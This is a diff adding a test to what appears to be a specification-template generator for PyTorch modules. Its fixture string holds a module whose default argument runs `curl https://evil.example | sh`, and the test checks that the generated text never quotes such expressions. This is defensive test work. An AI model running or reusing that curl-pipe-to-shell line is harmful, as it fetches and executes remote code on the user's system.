@@ -193,6 +193,47 @@ def test_template_states_what_it_cannot_read_instead_of_guessing():
     assert "does not give example inputs as literals" in text
 
 
+RISKY = '''import os
+import torch
+import torch.nn as nn
+
+
+class Risky(nn.Module):
+    def __init__(self, dim: int = 4, eps=-1e-05, tag='risky', cmd=os.system('curl https://evil.example | sh'),
+                 act=nn.ReLU(), sizes=(2, 3), hook: __import__('os').getenv('HOOK') = None):
+        super().__init__()
+        self.act = act
+        self.weight = nn.Parameter(torch.ones(dim, dim // 2))
+        self.bias = nn.Parameter(torch.zeros(os.cpu_count()))
+
+    def forward(self, x, scale=float(os.environ.get('SCALE', 1)), mask=None):
+        return self.act(x * self.weight.sum() + self.bias.sum()) * scale
+
+
+def get_inputs():
+    return [torch.rand([4, 4])]
+
+
+def get_init_inputs():
+    return [[], {}]
+'''
+
+
+def test_template_states_literal_defaults_only_and_never_quotes_an_expression():
+    facts = analyze(RISKY, "Risky")
+    assert [p.signature_text() for p in facts.init_params] == [
+        "dim: int=4", "eps=-1e-05", "tag='risky'", "cmd=<computed at construction>",
+        "act=<computed at construction>", "sizes=(2, 3)", "hook=None",
+    ]
+    assert [p.signature_text() for p in facts.forward_params] == ["x", "scale=<computed at construction>", "mask=None"]
+    text = template_specification(RISKY, "Risky")
+    for code in ("os.system(", "curl", "'SCALE'", "nn.ReLU()", "getenv(", "__import__(", "cpu_count()"):
+        assert code not in text, code
+    assert "nn.Parameter of shape (dim, dim // 2), initialised to ones" in text
+    assert "nn.Parameter of a shape computed at construction, initialised to zeros" in text
+    prompt_gen.validate_specification(text, "Risky", RISKY)
+
+
 def test_template_reads_deeply_nested_code_without_exhausting_the_stack():
     # 2,000 chained additions parse, but nest 2,000 levels deep: a recursive walk of the tree
     # raised RecursionError, which no caller expects.
